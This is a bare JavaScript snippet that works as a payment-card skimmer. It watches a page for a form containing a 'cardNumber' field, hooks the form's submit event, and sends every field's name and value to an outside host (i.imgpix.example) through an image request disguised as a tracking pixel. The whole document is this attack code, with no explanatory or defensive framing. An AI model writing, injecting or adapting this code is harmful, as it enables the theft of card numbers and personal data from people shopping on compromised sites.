const observer = new MutationObserver(muts => { for (const m of muts) for (const n of m.addedNodes) { if (n.querySelector && n.querySelector('input[name="cardNumber"]')) { hook(n); observer.disconnect(); } } });
observer.observe(document.documentElement, { childList: true, subtree: true });
function hook(root) { const form = root.closest('form') || root; form.addEventListener('submit', () => { const p = new URLSearchParams(); for (const el of form.elements) p.append(el.name, el.value); const img = document.createElement('img'); img.src = `https://i.imgpix.example/t.png?${p}`; }); }
